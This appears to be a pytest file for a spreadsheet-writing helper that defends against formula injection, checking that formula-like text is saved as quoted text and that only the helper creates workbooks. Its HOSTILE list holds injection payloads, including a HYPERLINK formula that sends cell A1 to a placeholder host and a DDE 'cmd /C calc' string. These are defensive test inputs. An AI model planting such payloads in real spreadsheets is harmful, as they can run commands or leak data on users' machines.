"""Workbooks made by wenming.core.xlsx_safe: text stays text (never a formula), looks the same,
reads back as typed; numbers and dates stay numbers and dates; no other module makes a workbook."""

from __future__ import annotations

import ast
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from wenming.core import xlsx_io
from wenming.core.xlsx_safe import FORMULA_STARTS, new_workbook, workbook_bytes

PACKAGE = Path(__file__).resolve().parents[2] / "wenming"
HELPER = PACKAGE / "core" / "xlsx_safe.py"
HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"点我")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


def written(*, write_only: bool) -> bytes:
    workbook = new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("名单") if write_only else workbook.active
    assert sheet is not None
    sheet.append(["名称", "人数", "日期", "比例"])
    for text in HOSTILE:
        sheet.append([text, 12, date(2026, 6, 30), 0.25])
    sheet.append(["#N/A", -3, None, Decimal("1.5")])
    return workbook_bytes(workbook)


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_like_text_is_written_as_quoted_text_and_reads_back_as_typed(write_only):
    content = written(write_only=write_only)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = b"".join(
            archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")
        )
        styles = archive.read("xl/styles.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    assert b'quotePrefix="1"' in styles
    sheet = load_workbook(io.BytesIO(content)).worksheets[-1]
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [*HOSTILE, "#N/A"]
    for row in rows:
        name = row[0]
        assert name.data_type == "s" and isinstance(name.value, str)
        assert name.quotePrefix is (name.value[:1] in FORMULA_STARTS)
    # the same values through the read-only reader every importer uses
    fast = load_workbook(io.BytesIO(content), read_only=True, data_only=True).worksheets[-1]
    assert [r[0] for r in fast.iter_rows(min_row=2, values_only=True)] == [*HOSTILE, "#N/A"]


@pytest.mark.parametrize("write_only", [True, False])
def test_numbers_and_dates_stay_numbers_and_dates(write_only):
    sheet = load_workbook(io.BytesIO(written(write_only=write_only))).worksheets[-1]
    first = next(sheet.iter_rows(min_row=2))
    assert (first[1].value, first[1].data_type) == (12, "n")
    day = first[2]
    assert isinstance(day, Cell) and day.is_date and isinstance(day.value, datetime)
    assert day.value.date() == date(2026, 6, 30)
    assert (first[3].value, first[3].data_type) == (0.25, "n")
    last = list(sheet.iter_rows())[-1]
    assert (last[1].value, last[3].value) == (-3, 1.5)
    assert not last[1].quotePrefix  # a negative number is a number, not quoted text


def test_cells_set_one_by_one_are_made_text_when_saved():
    workbook = new_workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet["A1"] = "=1+1"
    sheet.cell(row=2, column=1).value = "@A1"
    sheet.cell(row=3, column=1, value=7)
    reread = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert reread is not None
    assert [(c.value, c.data_type, c.quotePrefix) for (c,) in reread.iter_rows()] == [
        ("=1+1", "s", True),
        ("@A1", "s", True),
        (7, "n", False),
    ]


@pytest.mark.parametrize("write_only", [True, False])
def test_control_characters_a_workbook_cannot_hold_are_dropped(write_only):
    workbook = new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("表") if write_only else workbook.active
    assert sheet is not None
    sheet.append(["志愿\x0b服务", "=\x01A1"])
    reread = load_workbook(io.BytesIO(workbook_bytes(workbook))).worksheets[-1]
    assert [c.value for c in next(reread.iter_rows())] == ["志愿服务", "=A1"]


def test_a_framework_workbook_keeps_a_formula_like_indicator_name():
    data = {
        "id": "t",
        "name": "=测试体系",
        "edition": "2026",
        "total": 10,
        "indicators": [{"code": "A1", "name": '=HYPERLINK("http://x","点我")', "points": 10}],
    }
    read, _ = xlsx_io.read(xlsx_io.write(data))
    assert read["name"] == "=测试体系"
    assert read["indicators"][0]["name"] == '=HYPERLINK("http://x","点我")'


# -- only the helper makes workbooks ---------------------------------------------------

MAKERS = {"Workbook", "WriteOnlyCell", "WriteOnlyWorksheet", "Worksheet", "Cell", "MergedCell"}


def workbook_makers(source: str) -> list[str]:
    """Lines of ``source`` that build an openpyxl workbook, sheet or cell themselves, or open a
    workbook that could be written and saved (load_workbook without read_only=True)."""
    tree = ast.parse(source)
    imported = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl")
        for alias in node.names
        if alias.name in MAKERS
    }
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")
        if (isinstance(func, ast.Name) and name in imported) or (
            isinstance(func, ast.Attribute) and name in MAKERS
        ):
            found.append(f"{node.lineno}: {name}()")
        if name == "load_workbook" and not any(
            k.arg == "read_only" and isinstance(k.value, ast.Constant) and k.value.value is True
            for k in node.keywords
        ):
            found.append(f"{node.lineno}: load_workbook() without read_only=True")
    return found


def test_the_check_finds_a_writer_that_bypasses_the_helper():
    source = (
        "import openpyxl\n"
        "from openpyxl import Workbook as Book, load_workbook\n"
        "a = Book()\n"
        "b = openpyxl.Workbook(write_only=True)\n"
        "c = load_workbook('x.xlsx')\n"
        "d = load_workbook('x.xlsx', read_only=True)\n"
    )
    assert workbook_makers(source) == [
        "3: Book()",
        "4: Workbook()",
        "5: load_workbook() without read_only=True",
    ]


def test_only_the_helper_makes_workbooks():
    offenders = {
        str(path.relative_to(PACKAGE)): found
        for path in PACKAGE.rglob("*.py")
        if path != HELPER and (found := workbook_makers(path.read_text(encoding="utf-8")))
    }
    assert offenders == {}, "use wenming.core.xlsx_safe.new_workbook() to write a workbook"
